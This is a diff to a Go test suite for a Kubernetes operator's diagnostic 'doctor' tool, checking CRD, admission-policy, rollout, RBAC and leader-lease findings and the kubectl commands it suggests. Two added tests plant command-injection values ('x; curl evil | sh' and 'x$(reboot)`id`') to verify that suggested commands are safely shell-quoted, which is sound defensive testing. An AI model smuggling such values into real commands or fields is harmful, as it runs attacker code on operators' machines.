@@ -6,6 +6,8 @@ package doctor_test
 import (
 	"errors"
 	"fmt"
+	"regexp"
+	"strings"
 	"time"
 
 	. "github.com/onsi/ginkgo/v2"
@@ -90,14 +92,22 @@ func (want found) in(r *doctor.Report) {
 // edit changes the schema of a kind.
 func edit(f *doctor.Facts, kind string, how func(schema map[string]any)) {
 	GinkgoHelper()
+	versioned(f, kind, func(version map[string]any) {
+		schema, _, err := unstructured.NestedMap(version, "schema", "openAPIV3Schema")
+		Expect(err).NotTo(HaveOccurred())
+		how(schema)
+		Expect(unstructured.SetNestedMap(version, schema, "schema", "openAPIV3Schema")).To(Succeed())
+	})
+}
+
+// versioned changes the version of a kind.
+func versioned(f *doctor.Facts, kind string, how func(version map[string]any)) {
+	GinkgoHelper()
 	live := f.Kinds.Value[kind+".iam.rollcall.dev"]
 	versions, _, err := unstructured.NestedSlice(live.Object, "spec", "versions")
 	Expect(err).NotTo(HaveOccurred())
 	version, _ := versions[0].(map[string]any)
-	schema, _, err := unstructured.NestedMap(version, "schema", "openAPIV3Schema")
-	Expect(err).NotTo(HaveOccurred())
-	how(schema)
-	Expect(unstructured.SetNestedMap(version, schema, "schema", "openAPIV3Schema")).To(Succeed())
+	how(version)
 	Expect(unstructured.SetNestedSlice(live.Object, versions, "spec", "versions")).To(Succeed())
 }
 
@@ -159,6 +169,23 @@ var _ = DescribeTable("One thing that is not as it should be:", func(how func(*d
 		edit(f, "locks", without("properties", "spec", "x-kubernetes-validations"))
 		edit(f, "users", without("properties", "spec", "properties", "userName", "maxLength"))
 	}, found{"kinds", doctor.Warning, "users.iam.rollcall.dev", "one version"}),
+	Entry("a kind without its status", func(f *doctor.Facts) {
+		versioned(f, "locks", func(version map[string]any) { delete(version, "subresources") })
+	}, found{"kinds", doctor.Failed, "locks.iam.rollcall.dev has no subresource status", "config/crd"}),
+	Entry("a kind that is in namespaces", func(f *doctor.Facts) {
+		Expect(unstructured.SetNestedField(f.Kinds.Value["locks.iam.rollcall.dev"].Object, "Namespaced", "spec", "scope")).To(Succeed())
+	}, found{"kinds", doctor.Failed, "locks.iam.rollcall.dev is Namespaced, and should be Cluster", "config/crd"}),
+	Entry("a kind that somebody converts", func(f *doctor.Facts) {
+		Expect(unstructured.SetNestedField(f.Kinds.Value["locks.iam.rollcall.dev"].Object, "Webhook", "spec", "conversion", "strategy")).
+			To(Succeed())
+	}, found{"kinds", doctor.Warning, "conversion than this plugin's: locks.iam.rollcall.dev", "one version"}),
+	Entry("a kind with the conversion that the API server fills in", func(f *doctor.Facts) {
+		Expect(unstructured.SetNestedField(f.Kinds.Value["locks.iam.rollcall.dev"].Object, "None", "spec", "conversion", "strategy")).
+			To(Succeed())
+	}, found{"kinds", doctor.OK, "", ""}),
+	Entry("a kind that is kept otherwise", func(f *doctor.Facts) {
+		versioned(f, "locks", func(version map[string]any) { version["storage"] = false })
+	}, found{"kinds", doctor.Warning, "storage or conversion than this plugin's: locks.iam.rollcall.dev", "one version"}),
 	Entry("a kind of a newer version", func(f *doctor.Facts) {
 		edit(f, "locks", func(schema map[string]any) {
 			Expect(unstructured.SetNestedField(schema, "string", "properties", "spec", "properties", "color", "type")).To(Succeed())
@@ -185,6 +212,38 @@ var _ = DescribeTable("One thing that is not as it should be:", func(how func(*d
 			ObjectSelector: &metav1.LabelSelector{}, NamespaceSelector: &metav1.LabelSelector{}, MatchPolicy: new(admissionv1.Equivalent),
 		}
 	}, found{"policies", doctor.OK, "", ""}),
+	Entry("a policy that leaves out resources", func(f *doctor.Facts) {
+		m := f.Policies.Value[0].Spec.MatchConstraints
+		m.ExcludeResourceRules = m.ResourceRules
+	},
+		found{
+			"policies", doctor.Failed,
+			"letting through what they should look at: rollcall-approvals (matchConstraints.excludeResourceRules)", "config/policies",
+		}),
+	Entry("a policy that leaves out objects", func(f *doctor.Facts) {
+		f.Policies.Value[0].Spec.MatchConstraints.ObjectSelector = &metav1.LabelSelector{MatchLabels: map[string]string{"a": "b"}}
+		f.Policies.Value[0].Spec.MatchConstraints.NamespaceSelector = &metav1.LabelSelector{MatchLabels: map[string]string{"a": "b"}}
+	},
+		found{
+			"policies", doctor.Failed, "rollcall-approvals (matchConstraints.namespaceSelector, matchConstraints.objectSelector)",
+			"config/policies",
+		}),
+	Entry("a policy that leaves out other versions", func(f *doctor.Facts) {
+		f.Policies.Value[0].Spec.MatchConstraints.MatchPolicy = new(admissionv1.Exact)
+	}, found{"policies", doctor.Failed, "rollcall-approvals (matchConstraints.matchPolicy)", "config/policies"}),
+	Entry("a policy that wants parameters", func(f *doctor.Facts) {
+		f.Policies.Value[0].Spec.ParamKind = &admissionv1.ParamKind{APIVersion: "v1", Kind: "ConfigMap"}
+	}, found{"policies", doctor.Failed, "rollcall-approvals (paramKind)", "config/policies"}),
+	Entry("a policy as the API server fills it in", func(f *doctor.Facts) {
+		spec := &f.Policies.Value[0].Spec
+		spec.FailurePolicy = new(admissionv1.Fail)
+		spec.MatchConstraints.ObjectSelector, spec.MatchConstraints.NamespaceSelector = &metav1.LabelSelector{}, &metav1.LabelSelector{}
+		spec.MatchConstraints.MatchPolicy = new(admissionv1.Equivalent)
+		spec.MatchConstraints.ResourceRules[0].Scope = new(admissionv1.AllScopes)
+	}, found{"policies", doctor.OK, "", ""}),
+	Entry("a policy bound for one version only", func(f *doctor.Facts) {
+		f.PolicyBindings.Value[0].Spec.MatchResources = &admissionv1.MatchResources{MatchPolicy: new(admissionv1.Exact)}
+	}, found{"policies", doctor.Warning, "a part of the objects only: rollcall-approvals", ""}),
 	Entry("a policy that fails open", func(f *doctor.Facts) { f.Policies.Value[0].Spec.FailurePolicy = new(admissionv1.Ignore) },
 		found{"policies", doctor.Warning, "other than this plugin's (older, newer or changed): rollcall-approvals", ""}),
 	Entry("a policy that allows more", func(f *doctor.Facts) { f.Policies.Value[0].Spec.Validations[0].Expression = "true" },
@@ -218,12 +277,34 @@ var _ = DescribeTable("One thing that is not as it should be:", func(how func(*d
 		}}}}
 	}, found{"operator", doctor.Warning, "two: Unschedulable: 0/3 nodes", ""}),
 	Entry("it is scaled to nothing", func(f *doctor.Facts) { f.Deployment.Value.Spec.Replicas = new(int32(0)) },
-		found{"operator", doctor.Failed, "scaled to 0", "kubectl scale"}),
+		found{"operator", doctor.Failed, "scaled to 0", "two replicas do as well.[kubectl scale deployment/rollcall-controller-manager " +
+			"-n rollcall-system --replicas=1]"}),
+	Entry("it is scaled to nothing, and is to be one", func(f *doctor.Facts) {
+		f.Deployment.Value.Spec.Replicas = new(int32(0))
+		f.Deployment.Value.Spec.Strategy.Type = appsv1.RecreateDeploymentStrategyType
+	},
+		found{"operator", doctor.Failed, "scaled to 0", "in each other's way.[kubectl scale deployment/rollcall-controller-manager " +
+			"-n rollcall-system --replicas=1]"}),
+	Entry("a rollout is stuck", func(f *doctor.Facts) {
+		f.Deployment.Value.Status.Conditions = []appsv1.DeploymentCondition{
+			{Type: appsv1.DeploymentProgressing, Status: corev1.ConditionFalse, Reason: "ProgressDeadlineExceeded", Message: "timed out"},
+		}
+		f.Pods.Value = []corev1.Pod{waiting("ImagePullBackOff", "no such image")}
+	},
+		found{
+			"operator", doctor.Warning,
+			"2 of 2 replicas are ready: one: ImagePullBackOff: no such image; the rollout is stuck: ProgressDeadlineExceeded: timed out",
+			"kubectl describe pods",
+		}),
+	Entry("old replicas are still there", func(f *doctor.Facts) { f.Deployment.Value.Status.UpdatedReplicas = 1 },
+		found{"operator", doctor.Warning, "1 of 2 replicas are as the Deployment says now", "kubectl logs"}),
+	Entry("a change of it is not looked at", func(f *doctor.Facts) { f.Deployment.Value.Generation = 7 },
+		found{"operator", doctor.Warning, "no controller has looked at it since", "kubectl logs"}),
 	Entry("it runs elsewhere", func(f *doctor.Facts) { f.Deployment.Value = nil },
 		found{"operator", doctor.Note, "outside of this cluster", ""}),
 	Entry("it ran elsewhere", func(f *doctor.Facts) {
 		f.Deployment.Value, f.Lease.Value = nil, lease("one", time.Hour, time.Hour)
-	}, found{"operator", doctor.Failed, "does not work now", "Start it"}),
+	}, found{"operator", doctor.Failed, "does not work now", "--operator-namespace.[]"}),
 	Entry("it may run elsewhere", func(f *doctor.Facts) {
 		f.Deployment.Value, f.Lease.Value, f.Directories.Value = nil, nil, nil
 	}, found{"operator", doctor.Warning, "cannot be seen", "--leader-elect"}),
@@ -236,6 +317,13 @@ var _ = DescribeTable("One thing that is not as it should be:", func(how func(*d
 		found{"leader", doctor.OK, "said so 1 second ago", ""}),
 	Entry("the leader's clock is far ahead, and it stopped", func(f *doctor.Facts) { f.Lease.Value = lease("one", -time.Hour, time.Hour) },
 		found{"leader", doctor.Failed, "", ""}),
+	Entry("somebody else has written the Lease before", func(f *doctor.Facts) {
+		l := lease("one", time.Second, time.Second)
+		old := l.ManagedFields[1]
+		old.Manager, old.Time = "another", new(ago(time.Hour))
+		l.ManagedFields = append([]metav1.ManagedFieldsEntry{old}, l.ManagedFields...)
+		f.Lease.Value = l
+	}, found{"leader", doctor.OK, "said so 1 second ago", ""}),
 	Entry("there is no leader election, and Directories are read", func(f *doctor.Facts) { f.Lease.Value = nil },
 		found{"leader", doctor.Note, "reads Directories", ""}),
 	Entry("there is no leader election, and nothing tells", func(f *doctor.Facts) {
@@ -284,6 +372,14 @@ var _ = DescribeTable("One thing that is not as it should be:", func(how func(*d
 		found{
 			"directory corp", doctor.Failed, "90 of 100 people",
 			"kubectl annotate directory corp --overwrite iam.rollcall.dev/accept-loss=0b5e55ed",
+		}),
+	Entry("the loss guard holds, and what it says is no token", func(f *doctor.Facts) {
+		directs(v1alpha1.ConditionReady, no, v1alpha1.ReasonLossGuard, "90 of 100 people would lose access")(f)
+		f.Directories.Value[0].Status.Pending = &v1alpha1.PendingPlan{Token: "x; curl evil | sh 'y' z"}
+	},
+		found{
+			"directory corp", doctor.Failed, "90 of 100 people",
+			`kubectl annotate directory corp --overwrite 'iam.rollcall.dev/accept-loss=x; curl evil | sh '\''y'\'' z'`,
 		}),
 	Entry("a Directory is paused", directs(v1alpha1.ConditionReady, yes, v1alpha1.ReasonPaused, "spec.sync is Paused"),
 		found{"directory corp", doctor.Note, "Paused", ""}),
@@ -350,8 +446,26 @@ var _ = Describe("The operator's rights", func() {
 		found{
 			"rights", doctor.Failed,
 			"of rollcall-manager it may not list, watch users.iam.rollcall.dev, get configmaps rollcall-ledger in rollcall-system",
-			"config/rbac",
+			"[kubectl apply --server-side -f config/rbac/manager_role.yaml kubectl apply --server-side -f config/rbac/namespace_role.yaml]",
 		}.in(doctor.Examine(f, expected()))
+	})
+
+	It("are never installed with what roles may be bound, and not by files that are for another namespace or ServiceAccount", func() {
+		f.Allowed.Value = nil
+		run := strings.Join(about(doctor.Examine(f, expected()), "rights").Run, "\n")
+		Expect(run).To(SatisfyAll(Not(ContainSubstring("bindable")), Not(ContainSubstring("-k"))))
+		files := regexp.MustCompile(`config/rbac/\S+`).FindAllString(run, -1)
+		Expect(files).To(ConsistOf("config/rbac/manager_role.yaml", "config/rbac/namespace_role.yaml", "config/rbac/audit.yaml"))
+		for _, file := range files {
+			Expect("../../" + file).To(BeARegularFile())
+		}
+		for _, elsewhere := range []func(){
+			func() { f.Namespace = "iam" }, func() { f.Namespace, f.ServiceAccount = "rollcall-system", "another" },
+		} {
+			elsewhere()
+			Expect(about(doctor.Examine(f, expected()), "rights")).To(SatisfyAll(
+				HaveField("State", doctor.Failed), HaveField("Run", BeEmpty()), HaveField("See", "docs/upgrade.md")))
+		}
 	})
 
 	It("are asked for in the namespace that it is in", func() {
@@ -428,10 +542,35 @@ var _ = Describe("What to run", func() {
 		f := healthy()
 		f.Deployment.Value = &appsv1.Deployment{
 			ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"helm.sh/chart": "rollcall-1.2.3", "app.kubernetes.io/instance": "mine"}},
-			Status:     appsv1.DeploymentStatus{ReadyReplicas: 1},
+			Status:     appsv1.DeploymentStatus{ReadyReplicas: 1, UpdatedReplicas: 1},
 		}
 		f.Policies.Value = nil
 		Expect(about(doctor.Examine(f, expected()), "policies").Run).To(
 			ConsistOf("helm upgrade mine charts/rollcall -n rollcall-system --reset-then-reuse-values"))
+	})
+
+	It("holds nothing that a shell would act on, whatever a cluster says", func() {
+		f := healthy()
+		const evil = "x$(reboot)`id`"
+		f.Deployment.Value.Labels = map[string]string{"helm.sh/chart": "x", "app.kubernetes.io/instance": evil}
+		f.Deployment.Value.Spec.Selector = &metav1.LabelSelector{MatchLabels: map[string]string{"app.kubernetes.io/name": evil}}
+		f.Deployment.Value.Status.ReadyReplicas = 0
+		f.Namespace, f.ServiceAccount = evil, evil
+		f.Deployment.Value.Namespace, f.Directories.Value[0].Name = evil, evil
+		f.Directories.Value[0].Status.Conditions[0] = condition(v1alpha1.ConditionReady, no, "Odd", "odd")
+		f.Policies.Value, f.Login.Err = nil, "no route"
+		for right := range f.Allowed.Value {
+			f.Allowed.Value[right] = !f.Allowed.Value[right]
+		}
+		f.Lease.Value = lease("one", time.Hour, time.Hour)
+		add(f.People[0].Value, evil, 0, condition(v1alpha1.ConditionReady, no, "Odd", "odd"))
+		seen := 0
+		for _, c := range doctor.Examine(f, expected()).Checks {
+			for _, run := range c.Run {
+				seen += strings.Count(run, evil)
+				Expect(regexp.MustCompile(`'[^']*'`).ReplaceAllString(run, "")).NotTo(ContainSubstring("reboot"), c.About)
+			}
+		}
+		Expect(seen).To(BeNumerically(">=", 12))
 	})
 })
